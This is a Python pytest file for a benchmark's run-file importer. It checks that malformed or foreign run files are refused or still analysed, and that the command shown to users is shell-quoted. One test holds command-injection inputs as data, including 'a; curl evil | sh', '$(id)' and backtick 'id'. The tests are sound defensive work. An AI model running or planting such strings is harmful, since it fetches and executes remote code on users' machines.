"""Run files that somebody else wrote: refused in a sentence, or drawn like any other."""

import json
import shlex
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from lib.errors import InvalidInput
from lib.results import comparison, findings, run_file
from lib.results.analysis import analyse
from lib.results.findings import ALONE
from lib.results.plan import PRESETS
from lib.results.trials import Run
from lib.runs import pictures, reports, story
from lib.runs.store import RunStore
from tests.run_builder import ENVIRONMENT, SETTINGS, make_run, make_trial

STRANGE: tuple[Any, ...] = (
    *("abc", "", -1, 0, 1.5, 10**12, True, None, [], ["a"], [1], [[]], {}, {"a": []}),
)
KEYS = {
    "environment": (*ENVIRONMENT, "anything"),
    "settings": (*SETTINGS, *vars(PRESETS["quick"].plan), "anything"),
}
RUN = make_run(
    *(make_trial(count=7, repeat=number) for number in range(3)),
    *(make_trial("gather", count=7, concurrency=None, repeat=number) for number in range(3)),
)


def drawn(data: bytes, folder: Path) -> Run:
    """Import a run, say of it what a page says, and return it. Raises InvalidInput."""
    store = RunStore(folder, recorded=folder / "none")
    store.import_(data, "strange.json")
    (entry,) = store.entries()
    run = entry.load()
    found = analyse(run)
    assert findings.headline(found)
    assert reports.sections(found, ALONE, "")
    assert findings.stem(run)
    assert story.slides(found, ALONE)
    findings.where_async_loses(found)
    findings.warnings(found)
    comparison.differences([("A", run), ("B", RUN)])
    return run


@pytest.mark.parametrize(("part", "key"), [(part, key) for part in KEYS for key in KEYS[part]])
def test_a_value_of_a_strange_kind_is_refused_or_drawn(part: str, key: str, tmp_path: Path) -> None:
    document = json.loads(run_file.to_json(RUN))
    refusals = []
    for number, value in enumerate(STRANGE):
        document[part][key] = value
        try:
            drawn(json.dumps(document).encode(), tmp_path / str(number))
        except InvalidInput as error:
            refusals.append(str(error))
    assert len(refusals) < len(STRANGE)
    assert bool(refusals) == (key != "anything")
    assert all(key in refusal for refusal in refusals)


@pytest.mark.parametrize("part", KEYS)
@pytest.mark.parametrize("value", ["text", 7, [], [{}], None])
def test_a_part_that_is_no_object_is_refused(part: str, value: Any, tmp_path: Path) -> None:
    document = json.loads(run_file.to_json(RUN)) | {part: value}
    with pytest.raises(InvalidInput, match=part):
        drawn(json.dumps(document).encode(), tmp_path)


def test_a_run_of_warm_ups_alone_is_no_run(tmp_path: Path) -> None:
    warm = make_run(*(replace(trial, warmup=True) for trial in RUN.trials))
    with pytest.raises(InvalidInput, match="no trial"):
        drawn(run_file.to_json(warm).encode(), tmp_path)


def test_trials_without_calls_are_refused_or_drawn(tmp_path: Path) -> None:
    document = json.loads(run_file.to_json(RUN))
    for trial in document["trials"]:
        trial["calls"] = []
    assert list(pictures.figures(analyse(drawn(json.dumps(document).encode(), tmp_path))))


def test_a_file_that_cannot_be_read_is_left_out_and_named(tmp_path: Path) -> None:
    store = RunStore(tmp_path, recorded=tmp_path / "none")
    kept = store.save(RUN, name="Mine")
    document = json.loads(run_file.to_json(RUN))
    document["environment"]["simulated_latency_ms"] = "abc"
    (tmp_path / "strange.json").write_text(json.dumps(document), encoding="utf-8")
    (tmp_path / "half.json").write_text("{", encoding="utf-8")
    entries, unreadable = store.listing()
    assert [each.id for each in entries] == [kept.id]
    assert unreadable == ("half.json", "strange.json")


@pytest.mark.parametrize("collection", ["a; curl evil | sh", "$(id)", "a b", "`id`", "--output x"])
def test_the_command_to_copy_is_made_of_the_plan_and_quoted(collection: str) -> None:
    settings = SETTINGS | {"command": "curl evil | sh"}
    run = make_run(make_trial())
    shown = findings.command(replace(run, settings=settings))
    assert shown.startswith("python -m lib.benchmark --uri URI ")
    assert "curl" not in shown
    asked = settings | {
        "operations": ["similarity_search"],
        "collection": collection,
        "questions": ["why?"],
    }
    words = shlex.split(findings.command(replace(run, settings=asked)))
    assert not words or words[words.index("--collection") + 1] == collection
    assert "evil" not in reports.sections(analyse(replace(run, settings=settings)), ALONE, "")
